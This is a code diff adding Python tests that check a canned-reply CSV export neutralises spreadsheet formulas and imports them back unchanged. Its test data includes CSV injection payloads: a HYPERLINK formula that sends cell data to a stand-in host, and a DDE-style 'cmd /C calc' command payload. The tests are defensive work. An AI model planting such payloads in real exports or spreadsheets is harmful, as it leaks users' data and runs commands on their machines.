@@ -110,3 +110,50 @@ def test_a_broken_file_is_refused_with_a_clear_error(tenant, data, line):
 def test_a_file_over_the_limit_is_refused(tenant, monkeypatch):
     monkeypatch.setattr(transfer, "IMPORT_MAX_BYTES", 100)
     assert import_errors(tenant, b"shortcut,title,text\n" + b"a,b,c\n" * 30)
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.test/?d="&A1,"Click")',
+    "+1 for the blue one",
+    "-5% this week",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted by hand",
+    "''+twice",
+    "'Tis fine, an apostrophe alone",
+]
+
+
+def test_formula_cells_are_exported_neutralised_and_imported_back_as_written(tenant, other_tenant, make_reply):
+    import csv
+    import io
+
+    for number, text in enumerate(FORMULAS):
+        make_reply(f"f{number}", title=text, text=text, tags="-tag" if number == 0 else "")
+    exported = transfer.canned_csv_export(tenant=tenant)
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(transfer.FORMULA_STARTS)]
+    assert "'=HYPERLINK(" in exported and "'+1 for" in exported and "'-5%" in exported and "'@SUM" in exported
+
+    result = transfer.canned_csv_import(tenant=other_tenant, data=exported.encode("utf-8"))
+    assert result.created == len(FORMULAS)
+    assert [row[2:] for row in rows(other_tenant)] == [row[2:] for row in rows(tenant)]
+
+
+@pytest.mark.parametrize("value", ["\t=1", "\r=1", "\t", "=", "'", "''", "'-", "x=1", "", "—", "'\t"])
+def test_cell_export_and_import_are_inverse(value):
+    exported = transfer.cell_export(value)
+    assert not exported.startswith(transfer.FORMULA_STARTS)
+    assert transfer.cell_import(exported) == value
+
+
+def test_cell_export_and_import_are_inverse_for_any_text():
+    from hypothesis import given
+    from hypothesis import strategies as st
+
+    @given(st.text(alphabet=st.sampled_from("'=+-@\t\rab "), max_size=8) | st.text(max_size=20))
+    def check(value):
+        exported = transfer.cell_export(value)
+        assert not exported.startswith(transfer.FORMULA_STARTS)
+        assert transfer.cell_import(exported) == value
+
+    check()
